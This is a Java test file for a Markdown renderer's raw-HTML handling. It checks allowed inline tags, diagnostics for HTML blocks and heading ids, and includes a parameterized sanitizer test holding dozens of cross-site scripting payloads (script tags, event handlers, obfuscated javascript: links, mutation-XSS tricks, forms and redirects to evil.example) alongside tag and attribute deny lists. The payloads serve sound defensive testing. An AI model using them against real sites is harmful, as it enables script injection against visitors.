package dev.archnotes.site.markdown.tree;

import static org.assertj.core.api.Assertions.assertThat;

import dev.archnotes.model.diagnostic.Diagnostic;
import dev.archnotes.model.diagnostic.Rule;
import dev.archnotes.site.markdown.MarkdownDialect;
import dev.archnotes.site.markdown.MarkdownDocument;
import dev.archnotes.site.markdown.PlainContext;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What comes through of HTML, and that nothing comes through that runs, loads or hides. */
class RawHtmlTest {
    private static final Set<String> HARMLESS = Set.of(
            "href",
            "src",
            "alt",
            "width",
            "height",
            "id",
            "class",
            "dir",
            "lang",
            "title",
            "open",
            "start",
            "colspan",
            "rowspan",
            "aria-label",
            "tabindex",
            "rel",
            "data-copy",
            "loading",
            "role");

    private static MarkdownDocument parsed(String markdown) {
        return MarkdownDialect.parse("note.md", 1, markdown);
    }

    private static Document html(String markdown) {
        return Jsoup.parseBodyFragment(parsed(markdown).render(new PlainContext()));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "a <kbd>Ctrl</kbd> b | kbd | Ctrl",
                "x<sub>1</sub> and x<sup>2</sup> | sub, sup | 1 2",
                "a <mark>b</mark> | mark | b",
                "<u>a</u> <small>b</small> <ins>c</ins> <s>d</s> | u, small, ins, s | a b c d",
                "a <b>bold *and*</b> | strong | bold and",
                "a <I>i</I> | em | i",
                "<abbr title=\"HyperText\">HTML</abbr> | abbr[title=HyperText] | HTML",
                "a <a id=\"here\"></a>b | span#here | ''",
                "a <a href=\"https://example.org/\">there</a> | a[href=https://example.org/] | there",
            })
    void anElementWithinALine(String markdown, String found, String words) {
        assertThat(html(markdown).select(found).eachText())
                .containsExactly(words.isEmpty() ? new String[0] : split(words, found));
        assertThat(html(markdown).select(found)).isNotEmpty();
        assertThat(parsed(markdown).findings()).isEmpty();
    }

    private static String[] split(String words, String found) {
        return found.contains(",") ? words.split(" ") : new String[] {words};
    }

    /** CommonMark reads nothing of a block of HTML, to its blank line; authors find out on the page. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<div align=\"center\">\n![The bird](tern.png \"Tern\")\n</div>",
                "<details>\n<summary>More</summary>\n**important** words\n</details>",
                "<p>\n[there](b.md)\n</p>",
                "<div>\nrun `make`\n</div>",
            })
    void markdownThatIsShownAsItIsWrittenIsTold(String markdown) {
        assertThat(parsed(markdown).findings()).singleElement().satisfies(finding -> {
            assertThat(finding.rule()).isEqualTo(Rule.INVALID_MARKDOWN);
            assertThat(finding.hint()).isEqualTo("leave a line empty between the tag and the text");
            assertThat(finding.location().line()).isEqualTo(markdown.startsWith("<details>") ? 3 : 2);
        });
        int tag = markdown.lastIndexOf('\n', markdown.length() - 2);
        String apart = markdown.substring(0, tag).replaceFirst("\n(?!<)", "\n\n") + "\n" + markdown.substring(tag);
        assertThat(parsed(apart).findings()).as(apart).isEmpty();
    }

    @Test
    void detailsHoldWhateverStandsBetweenTheirTags() {
        Document page = html("<details open>\n<summary>More & <b>more</b></summary>\n\n- one\n- **two**\n\n"
                + "```py\nx = 1\n```\n\n</details>\n\nBehind.\n");
        Element details = page.selectFirst("details[open]");
        assertThat(details.selectFirst("> summary").text()).isEqualTo("More & more");
        assertThat(details.select("li")).hasSize(2);
        assertThat(details.select("li strong").text()).isEqualTo("two");
        assertThat(details.select("figure.code")).hasSize(1);
        assertThat(page.body().children().last().text()).isEqualTo("Behind.");
    }

    @Test
    void aTableOfHtmlKeepsItsShape() {
        Document page = html("<table>\n<tr><th align=\"right\">A<td colspan=2>B\n<tr>\n<td>\n\n"
                + "**c**\n\n</td>\n<td>d</td></tr>\n</table>\n");
        assertThat(page.select("table tr")).hasSize(2);
        assertThat(page.select("th.align-right").text()).isEqualTo("A");
        assertThat(page.select("td[colspan=2]").text()).isEqualTo("B");
        assertThat(page.select("td p strong").text()).isEqualTo("c");
    }

    @Test
    void anImageHasTheSizeThatItsTagNames() {
        MarkdownDocument document =
                parsed("<p align=\"center\"><img src=\"a.png\" alt=\"A flow\" width=\"300\" height=40px></p>\n");
        assertThat(document.images()).singleElement().satisfies(image -> {
            assertThat(image.target()).isEqualTo("a.png");
            assertThat(image.alt()).isEqualTo("A flow");
            assertThat(image.wish().width()).isEqualTo(300);
            assertThat(image.wish().height()).isEqualTo(40);
        });
    }

    @Test
    void aHeadingOfHtmlIsAHeadingWithItsId() {
        assertThat(parsed("<h2 id=\"x\">Two <em>words</em></h2>\n").headings())
                .singleElement()
                .satisfies(heading -> {
                    assertThat(heading.id()).isEqualTo("two-words");
                    assertThat(heading.level()).isEqualTo(2);
                });
        assertThat(parsed("<h2 id=\"x\">Two</h2>\n").hasAnchor("x")).isTrue();
    }

    @Test
    void anIdThatIsTakenIsNotGivenTwice() {
        Document page = html("<a id=\"more\"></a><a id=\"twice\"></a> x <a id=\"twice\"></a>\n\n## More\n");
        assertThat(page.select("[id=more]")).hasSize(1);
        assertThat(page.select("h2#more")).hasSize(1);
        assertThat(page.select("[id=twice]")).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "a <script>alert(1)</script> b",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "a <img src=\"x\" onerror=\"alert(1)\" alt=\"b\"> c",
                "<img/src=x/onerror=alert(1)>",
                "<b onmouseover=alert(1)>x</b>",
                "a <b onclick='alert(1)' style='position:fixed;inset:0'>x</b>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" &#106;avascript:alert(1)\">x</a>",
                "<a href=\"java&#9;script:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
                "<a href=\"vbscript:x\">x</a> <a href='data:text/html,<script>alert(1)</script>'>y</a>",
                "<a href=\"&#x01;javascript:alert(1)\">x</a>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<style>body{display:none}</style>",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<object data=x></object> <embed src=x>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
                "<form action=https://evil.example/><input name=a><button>b</button></form>",
                "<base href=\"https://evil.example/\"> "
                        + "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<video src=x autoplay></video> <audio src=x></audio> <source srcset=x>",
                "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
                "<div id=\"x\" onfocus=alert(1) tabindex=0 autofocus contenteditable>x</div>",
                "<a href=x target=_top ping=https://evil.example/ download>x</a>",
                "<td background=https://evil.example/x>x</td>",
                "<table background=\"https://evil.example/x\"><tr><td>a</td></tr></table>",
                "<img src=\"https://evil.example/pixel.png\" alt=\"p\">",
                "<img srcset=\"https://evil.example/x 2x\" src=a.png alt=\"p\">",
                "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
                "</article></main><script>alert(1)</script>",
                "</div></details></section> text",
                "<p></article><b>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?> <!DOCTYPE html>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<textarea><script>alert(1)</script></textarea>",
                "<template><script>alert(1)</script></template>",
                "<b \0onclick=alert(1)>x</b>",
                "<a/href=javascript:alert(1)>x</a>",
                "<pre><script>alert(1)</script></pre>",
                "<summary><iframe></summary>",
                "<bdo dir=\"rtl\" onx=\"y\">x</bdo>",
            })
    void nothingHostileComesThrough(String hostile) {
        String printed = parsed("Before.\n\n" + hostile + "\n\n" + "Inside a line: " + hostile + "\n\nBehind.\n")
                .render(new PlainContext());
        Document page = Jsoup.parseBodyFragment(printed);
        for (Element element : page.body().select("*")) {
            assertThat(element.tagName())
                    .isNotIn(
                            "script",
                            "style",
                            "iframe",
                            "object",
                            "embed",
                            "svg",
                            "math",
                            "form",
                            "input",
                            "button",
                            "base",
                            "meta",
                            "link",
                            "video",
                            "audio",
                            "source",
                            "textarea",
                            "template",
                            "noscript",
                            "article",
                            "main");
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).as(printed).isIn(HARMLESS);
            }
            String href = element.attr("href").replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase(Locale.ROOT);
            assertThat(href)
                    .doesNotStartWith("javascript:")
                    .doesNotStartWith("data:")
                    .doesNotStartWith("vbscript:");
        }
        assertThat(page.body().children().first().text()).isEqualTo("Before.");
        assertThat(page.body().children().last().text()).as(printed).isEqualTo("Behind.");
    }

    @Test
    void whatIsNoneOfTheElementsIsCodeWithAFinding() {
        MarkdownDocument document = parsed("a <Badge type=\"tip\" /> b\n\n<custom-box>\ntext\n</custom-box>\n");
        assertThat(document.findings())
                .extracting(Diagnostic::rule)
                .containsExactlyElementsOf(List.of(Rule.RAW_HTML, Rule.RAW_HTML));
        Document page = Jsoup.parseBodyFragment(document.render(new PlainContext()));
        assertThat(page.select("p code").text()).isEqualTo("<Badge type=\"tip\" />");
        assertThat(page.select("pre").text()).contains("<custom-box>").contains("text");
    }

    @Test
    void aLongRunOfTagsTakesNoLongTime() {
        String hostile = "<b ".repeat(20_000) + "\n\n" + "<div>".repeat(5_000) + "\n\n" + "x <i>".repeat(5_000);
        assertThat(parsed(hostile).render(new PlainContext())).isNotEmpty();
    }
}
